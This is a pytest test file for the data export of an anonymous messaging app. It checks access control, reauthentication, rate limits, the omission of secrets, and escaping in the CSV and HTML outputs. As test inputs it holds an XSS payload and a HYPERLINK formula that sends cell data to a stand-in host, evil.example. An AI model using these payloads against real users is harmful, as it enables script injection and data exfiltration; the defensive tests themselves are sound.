"""The export: complete, harmless, and only for its owner."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from sqlmodel import delete, update

from anonmsg.database.tables import Person, SignInSession
from anonmsg.errors import IncorrectPassword, NotSignedIn, ReauthenticationNeeded, TooManyAttempts
from anonmsg.runtime.context import Context
from anonmsg.runtime.runtime import Runtime
from anonmsg.services.accounts import email_changes, export_files, exports, profiles
from anonmsg.services.inbox import delivery_settings, pauses, self_tests
from anonmsg.services.sessions import sessions, sign_ins
from tests import factories
from tests.factories import PASSWORD
from tests.fakes import Clock

COLUMNS = ["id", "text", "sent_at", "folder", "unread", "starred", "note", "test"]
HOSTILE = '</p><script>alert(1)</script><img src=x onerror="alert(2)">&amp;\'"'


@pytest.fixture
def ada(ctx: Context) -> Person:
    return factories.person(ctx, "Ada")


@pytest.fixture
def session_id(ctx: Context, ada: Person) -> str:
    """Ada's new session."""
    pair = sign_ins.sign_in(
        ctx,
        identifier=ada.username,
        password=PASSWORD,
        network=factories.NETWORK,
        label="Firefox on Windows",
    )
    return ctx.keyring.tokens.read_access(pair.access, now=ctx.now)


def zipped(runtime: Runtime, export: exports.Export) -> bytes:
    """The whole export, with a new context for each piece."""
    body = b""
    while True:
        with runtime.context() as ctx:
            piece = exports.next_piece(ctx, export=export)
        if not piece:
            return body
        body += piece


def files(runtime: Runtime, owner: Person, session_id: str, password: str = "") -> zipfile.ZipFile:
    with runtime.context() as ctx:
        export = exports.begin(ctx, owner_id=owner.id, session_id=session_id, password=password)
    return zipfile.ZipFile(io.BytesIO(zipped(runtime, export)))


def table(found: zipfile.ZipFile) -> list[list[str]]:
    return list(csv.reader(io.StringIO(found.read("messages.csv").decode("utf-8-sig"), newline="")))


class Seen(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.texts: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_each_file_marks_what_the_owner_sent_as_a_test(
    runtime: Runtime, ctx: Context, ada: Person, session_id: str
) -> None:
    self_tests.send(ctx, owner_id=ada.id)
    factories.messages(ctx, ada, "real")
    found = files(runtime, ada, session_id)
    listed = json.loads(found.read("anonmsg.json"))["messages"]
    assert {each["text"][:4]: each["test"] for each in listed} == {"This": "yes", "real": "no"}
    rows = csv.DictReader(io.StringIO(found.read("messages.csv").decode("utf-8-sig")))
    assert sorted(row["test"] for row in rows) == ["no", "yes"]
    assert found.read("index.html").decode().count("Test message") == 1


def test_strangers_and_other_peoples_sign_ins_get_nothing(
    ctx: Context, ada: Person, session_id: str
) -> None:
    grace = factories.person(ctx, "grace")
    for owner_id, sign_in in [(ada.id, ""), (ada.id, "x"), (grace.id, session_id), ("", "")]:
        with pytest.raises(NotSignedIn):
            exports.begin(ctx, owner_id=owner_id, session_id=sign_in, password=PASSWORD)


def test_an_old_proof_is_not_enough(
    runtime: Runtime, clock: Clock, ada: Person, session_id: str
) -> None:
    clock.move(minutes=5)
    with runtime.context() as later, pytest.raises(ReauthenticationNeeded):
        exports.begin(later, owner_id=ada.id, session_id=session_id)
    with runtime.context() as later, pytest.raises(IncorrectPassword):
        exports.begin(later, owner_id=ada.id, session_id=session_id, password="wrong")
    assert files(runtime, ada, session_id, PASSWORD).testzip() is None
    # The password check counts for the next five minutes.
    clock.move(minutes=4)
    assert files(runtime, ada, session_id).testzip() is None


def test_ten_downloads_an_hour(ctx: Context, ada: Person, session_id: str) -> None:
    for _ in range(10):
        exports.begin(ctx, owner_id=ada.id, session_id=session_id)
    with pytest.raises(TooManyAttempts):
        exports.begin(ctx, owner_id=ada.id, session_id=session_id)


def test_other_usernames_and_emails_are_in_the_export(
    runtime: Runtime, ctx: Context, ada: Person, session_id: str
) -> None:
    factories.two_factor(ctx, ada)
    profiles.rename(ctx, owner_id=ada.id, username="countess")
    email_changes.request(ctx, owner_id=ada.id, session_id=session_id, email="new@example.org")
    found = files(runtime, ada, session_id)
    profile = json.loads(found.read("anonmsg.json"))["profile"]
    assert profile["two_factor_on"] is True
    assert profile["other_usernames"] == [ada.username_key]
    assert profile["other_emails"] == ["new@example.org"]
    assert b"new@example.org" in found.read("index.html")


def test_a_refused_password_is_no_download(
    runtime: Runtime, clock: Clock, ada: Person, session_id: str
) -> None:
    clock.move(minutes=5)
    for _ in range(12):
        with runtime.context() as later, pytest.raises(ReauthenticationNeeded):
            exports.begin(later, owner_id=ada.id, session_id=session_id)
    assert files(runtime, ada, session_id, PASSWORD).testzip() is None


def test_it_holds_everything(
    runtime: Runtime, ctx: Context, clock: Clock, ada: Person, session_id: str
) -> None:
    with ctx.writing() as db:
        db.exec(update(Person).values(display_name="Ada L.", prompt="Ask me", bio="I count.\nسلام"))
    mine = {"owner_id": ada.id}
    delivery_settings.choose_time_zone(ctx, **mine, name="Asia/Karachi")
    delivery_settings.choose_delivery(ctx, **mine, mode="daily", hour=7, holds=True)
    delivery_settings.choose_quiet_hours(ctx, **mine, are_on=True, start=22, end=6)
    pauses.pause(ctx, **mine, length="hour")
    first, second = factories.messages(ctx, ada, "hello", 'line\none, "two"')
    factories.messages(ctx, factories.person(ctx, "grace"), "not for Ada")
    clock.move(minutes=1)
    found = files(runtime, ada, session_id)
    assert found.namelist() == ["anonmsg.json", "messages.csv", "index.html"]
    assert json.loads(found.read("anonmsg.json")) == {
        "exported_at": "2026-03-04T12:01:00+00:00",
        "profile": {
            "username": "Ada",
            "email": "Ada@example.com",
            "display_name": "Ada L.",
            "prompt": "Ask me",
            "bio": "I count.\nسلام",
            "accepts_messages": True,
            "two_factor_on": False,
            "emails_about_messages": "off",
            "other_usernames": [],
            "other_emails": [],
            "created_at": "2026-03-04T12:00:00+00:00",
            "time_zone": "Asia/Karachi",
            "paused_until": "2026-03-04T13:01:00+00:00",
            "delivery": "daily",
            "delivery_hour": 7,
            "deliver_together": 3,
            "quiet_from": 22,
            "quiet_to": 6,
        },
        "sign_ins": [
            {"label": "Firefox on Windows", "last_used_on": "2026-03-04", "signed_in": True}
        ],
        "messages": [
            {
                "id": m.id,
                "text": m.content,
                "sent_at": m.sent_at.isoformat(),
                "folder": "inbox",
                "unread": "yes",
                "starred": "no",
                "note": "",
                "test": "no",
            }
            for m in (second, first)
        ],
    }
    rows = table(found)
    assert rows[0] == COLUMNS
    assert [row[1:] for row in rows[1:]] == [
        [m.content, m.sent_at.isoformat(), "inbox", "yes", "no", "", "no"] for m in (second, first)
    ]
    page = found.read("index.html").decode()
    told = "".join(Seen(page).texts)
    for words in ("Ada L.", "سلام", "Firefox on Windows", "hello", "2026-03-04 12:00 UTC"):
        assert words in told
    assert "not for Ada" not in "".join(found.read(name).decode() for name in found.namelist())


def test_an_empty_inbox_is_exported_as_empty(
    runtime: Runtime, ada: Person, session_id: str
) -> None:
    found = files(runtime, ada, session_id)
    assert json.loads(found.read("anonmsg.json"))["messages"] == []
    assert table(found) == [COLUMNS]
    assert "No messages yet" in found.read("index.html").decode()


def test_an_ended_session_is_exported_as_ended(
    runtime: Runtime, ctx: Context, clock: Clock, ada: Person, session_id: str
) -> None:
    with ctx.writing() as db:
        db.add(
            SignInSession(
                person_id=ada.id,
                label="<b>Edge</b>",
                created_at=ctx.now - timedelta(days=3),
                rotated_at=ctx.now - timedelta(days=2),
                expires_at=ctx.now + timedelta(days=5),
                ended_at=ctx.now,
            )
        )
    found = files(runtime, ada, session_id)
    assert json.loads(found.read("anonmsg.json"))["sign_ins"][1] == {
        "label": "<b>Edge</b>",
        "last_used_on": "2026-03-02",
        "signed_in": False,
    }
    page = Seen(found.read("index.html").decode())
    assert "b" not in page.tags
    assert "<b>Edge</b>, last used on 2026-03-02, signed out" in "".join(page.texts)


def test_nothing_secret_is_in_it(
    runtime: Runtime, ctx: Context, ada: Person, session_id: str
) -> None:
    sealed = b"sealed-totp-secret"
    with ctx.writing() as db:
        db.exec(update(Person).values(totp_sealed=sealed, totp_on_at=ctx.now))
        row = db.get(Person, ada.id)
        hidden = [row.password_hash, row.id, session_id, sealed.decode()]
    found = files(runtime, ada, session_id)
    everything = "".join(found.read(name).decode() for name in found.namelist())
    for secret in hidden:
        assert secret not in everything
    for word in ("hash", "totp", "digest", "generation"):
        assert word not in json.dumps(json.loads(found.read("anonmsg.json")))


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("hi;=1+1", "hi;'=1+1"),
        ("hi; =1+1", "hi; '=1+1"),
        ('hi;"=1+1', "hi;\"'=1+1"),
        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
        ("a;-2+3;+4", "a;'-2+3;'+4"),
        ("thank you ;-)", "thank you ;-)"),
        ("one; two", "one; two"),
    ],
)
def test_no_formula_begins_where_lists_are_written_with_a_semicolon(text: str, safe: str) -> None:
    assert export_files.cell(text) == safe


@pytest.mark.parametrize(
    "first", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
)
def test_a_formula_in_a_cell_is_only_text(first: str) -> None:
    assert export_files.cell(f"{first}1+1") == f"'{first}1+1"


@pytest.mark.parametrize("text", ["", "1+1=2", "a-b", " =1", "'=1", "سلام"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert export_files.cell(text) == text


def test_a_message_cannot_break_out_of_the_table(
    runtime: Runtime, ctx: Context, ada: Person, session_id: str
) -> None:
    hostile = '=HYPERLINK("https://evil.example?x="&A1,"ok")'
    for text in (hostile, '","=1+1"\n=2+2', "@SUM(1)"):
        factories.send(ctx, username="Ada", content=text, network=factories.NETWORK)
    found = files(runtime, ada, session_id)
    raw = found.read("messages.csv")
    assert raw.startswith(b'\xef\xbb\xbf"id","text","sent_at","folder","unread",')
    assert raw.count(b"\r\n") == 4
    texts = {row[1] for row in table(found)[1:]}
    assert texts == {f"'{hostile}", '","=1+1"\n=2+2', "'@SUM(1)"}
    in_json = {m["text"] for m in json.loads(found.read("anonmsg.json"))["messages"]}
    assert hostile in in_json


def test_the_page_runs_and_loads_nothing(
    runtime: Runtime, ctx: Context, ada: Person, session_id: str
) -> None:
    with ctx.writing() as db:
        db.exec(update(Person).values(display_name=HOSTILE[:50], prompt=HOSTILE[:80], bio=HOSTILE))
    factories.messages(ctx, ada, HOSTILE)
    page = Seen(files(runtime, ada, session_id).read("index.html").decode())
    assert not {"script", "img", "link", "iframe", "form", "a"} & set(page.tags)
    assert page.texts.count(HOSTILE) == 2 + (len(HOSTILE) <= 80)
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    policy = next(value for name, value in page.attributes if "default-src" in (value or ""))
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy
    assert ("dir", "auto") in page.attributes


def test_many_messages_come_in_runs_each_once(
    runtime: Runtime, ctx: Context, clock: Clock, ada: Person, session_id: str
) -> None:
    # Three messages per second, so only the id can tell them apart.
    times = [ctx.now - timedelta(seconds=n // 3) for n in range(1200)]
    factories.messages(ctx, ada, *(f"{n}" for n in range(1200)), sent_at=times)
    found = files(runtime, ada, session_id)
    in_json = [m["text"] for m in json.loads(found.read("anonmsg.json"))["messages"]]
    assert sorted(in_json, key=int) == [f"{n}" for n in range(1200)]
    assert [int(text) // 3 for text in in_json] == sorted(n // 3 for n in range(1200))
    assert [row[1] for row in table(found)[1:]] == in_json
    assert found.read("index.html").decode().count("<article>") == 1200


def test_no_connection_is_held_between_the_pieces(
    runtime: Runtime, ctx: Context, ada: Person, session_id: str
) -> None:
    factories.messages(ctx, ada, *("x" * 900 for _ in range(600)))
    export = exports.begin(ctx, owner_id=ada.id, session_id=session_id)
    pool = runtime.database.engine.pool
    count = 0
    while True:
        with runtime.context() as later:
            if not exports.next_piece(later, export=export):
                break
        count += 1
        assert pool.checkedout() == 0
    assert count > 5


def test_what_comes_meanwhile_is_in_no_file(
    runtime: Runtime, ctx: Context, clock: Clock, ada: Person, session_id: str
) -> None:
    factories.messages(ctx, ada, "before")
    export = exports.begin(ctx, owner_id=ada.id, session_id=session_id)
    clock.move(seconds=1)
    with runtime.context() as later:
        factories.send(later, username="Ada", content="after", network=factories.NETWORK)
    found = zipfile.ZipFile(io.BytesIO(zipped(runtime, export)))
    assert [m["text"] for m in json.loads(found.read("anonmsg.json"))["messages"]] == ["before"]


@pytest.mark.parametrize("gone", ["deleted", "signed out", "banned"])
def test_it_ends_with_the_sign_in(
    runtime: Runtime, ctx: Context, ada: Person, session_id: str, gone: str
) -> None:
    factories.messages(ctx, ada, *(f"{n}" for n in range(600)))
    export = exports.begin(ctx, owner_id=ada.id, session_id=session_id)
    with runtime.context() as later:
        assert exports.next_piece(later, export=export)
    if gone == "signed out":
        sessions.sign_out(ctx, session_id=session_id)
    else:
        change = delete(Person) if gone == "deleted" else update(Person).values(banned_at=ctx.now)
        with ctx.writing() as db:
            db.exec(change)
    with pytest.raises(NotSignedIn):
        zipped(runtime, export)


def test_the_file_is_named_for_its_owner_and_day(
    ctx: Context, ada: Person, session_id: str
) -> None:
    export = exports.begin(ctx, owner_id=ada.id, session_id=session_id)
    assert export.filename == "anonmsg-Ada-2026-03-04.zip"
